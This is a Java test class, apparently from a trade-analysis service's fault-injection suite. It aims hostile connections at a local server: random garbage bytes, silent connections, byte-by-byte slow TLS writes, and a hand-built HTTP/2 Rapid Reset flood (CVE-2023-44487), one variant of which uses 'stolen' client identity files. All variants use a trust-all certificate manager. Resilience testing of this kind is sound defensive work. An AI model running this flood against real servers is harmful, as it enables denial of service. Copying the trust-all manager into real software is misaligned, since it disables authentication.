package io.tradeanalysis.e2e.faults;

import io.tradeanalysis.contract.IdentityFiles;
import io.tradeanalysis.workerapi.v1.TradeAnalysisGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.Random;
import javax.net.ssl.KeyManager;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Connections of those who want no answer. Each ends once the other side has ended it, or after a while. */
final class Hostile {

    private static final int PATIENCE_MILLIS = 15_000;
    private static final int MOST_GARBAGE = 4_096;
    private static final int RESETS = 1_000;
    private static final byte HEADERS = 1;
    private static final byte RST_STREAM = 3;
    private static final byte SETTINGS = 4;

    private final InetSocketAddress target;

    Hostile(int port) {
        this.target = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
    }

    /** Bytes that mean nothing. */
    void garbage(long seed) throws IOException {
        Random random = new Random(seed);
        byte[] bytes = new byte[1 + random.nextInt(MOST_GARBAGE)];
        random.nextBytes(bytes);
        try (Socket socket = connect()) {
            socket.getOutputStream().write(bytes);
            awaitEnd(socket);
        }
    }

    /** Nothing at all. */
    void silence() throws IOException {
        try (Socket socket = connect()) {
            awaitEnd(socket);
        }
    }

    /**
     * What could be the beginning of TLS, byte by byte.
     *
     * @throws SocketTimeoutException if it could be written to the end
     */
    void slowWriting() throws IOException, InterruptedException {
        byte[] beginning = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 252, 3, 3};
        try (Socket socket = connect()) {
            OutputStream out = socket.getOutputStream();
            for (int i = 0; i < PATIENCE_MILLIS / 100; i++) {
                out.write(i < beginning.length ? beginning[i] : i);
                Thread.sleep(100);
            }
        }
        throw new SocketTimeoutException("nobody minds");
    }

    /** TLS without a certificate, then streams that are opened and reset, as fast as can be (CVE-2023-44487). */
    void rapidReset() throws IOException, GeneralSecurityException {
        rapidReset(new KeyManager[0]);
    }

    /** The same by someone who has a front end's identity, so that its streams are looked at. */
    void rapidReset(IdentityFiles stolen) throws IOException, GeneralSecurityException {
        KeyManagerFactory keys = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        keys.init(KeyStores.of(stolen), KeyStores.PASSWORD);
        rapidReset(keys.getKeyManagers());
    }

    private void rapidReset(KeyManager[] keys) throws IOException, GeneralSecurityException {
        try (SSLSocket socket = (SSLSocket) context(keys).getSocketFactory().createSocket()) {
            socket.connect(target, PATIENCE_MILLIS);
            socket.setSoTimeout(PATIENCE_MILLIS);
            SSLParameters parameters = socket.getSSLParameters();
            parameters.setApplicationProtocols(new String[] {"h2"});
            socket.setSSLParameters(parameters);
            socket.startHandshake();
            socket.getOutputStream().write(resets());
            awaitEnd(socket);
        }
    }

    private static byte[] resets() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(out, SETTINGS, 0, 0, new byte[0]);
        byte[] headers = headers();
        for (int i = 0; i < RESETS; i++) {
            frame(out, HEADERS, 4, 2 * i + 1, headers);
            frame(out, RST_STREAM, 0, 2 * i + 1, new byte[] {0, 0, 0, 8});
        }
        return out.toByteArray();
    }

    /** Of a call that a handler would get (RFC 7541): names of the static table, values as they are. */
    private static byte[] headers() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(new byte[] {(byte) 0x83, (byte) 0x87}); // POST, https
        out.write(4); // :path
        text(out, "/" + TradeAnalysisGrpc.getAnalyseMethod().getFullMethodName());
        out.write(1); // :authority
        text(out, "localhost");
        out.write(new byte[] {0x0f, 31 - 15}); // content-type
        text(out, "application/grpc");
        out.write(0); // a name of its own
        text(out, "te");
        text(out, "trailers");
        return out.toByteArray();
    }

    private static void text(OutputStream out, String text) throws IOException {
        out.write(text.length());
        out.write(text.getBytes(StandardCharsets.US_ASCII));
    }

    private static void frame(OutputStream out, byte type, int flags, int stream, byte[] payload) throws IOException {
        ByteBuffer head = ByteBuffer.allocate(9);
        head.put((byte) 0)
                .putShort((short) payload.length)
                .put(type)
                .put((byte) flags)
                .putInt(stream);
        out.write(head.array());
        out.write(payload);
    }

    private static SSLContext context(KeyManager[] keys) throws GeneralSecurityException {
        SSLContext context = SSLContext.getInstance("TLSv1.3");
        context.init(keys, new TrustManager[] {new Anyone()}, null);
        return context;
    }

    private static final class Anyone implements X509TrustManager {

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }

    private Socket connect() throws IOException {
        Socket socket = new Socket();
        socket.connect(target, PATIENCE_MILLIS);
        socket.setSoTimeout(PATIENCE_MILLIS);
        return socket;
    }

    private static void awaitEnd(Socket socket) throws IOException {
        socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    }
}
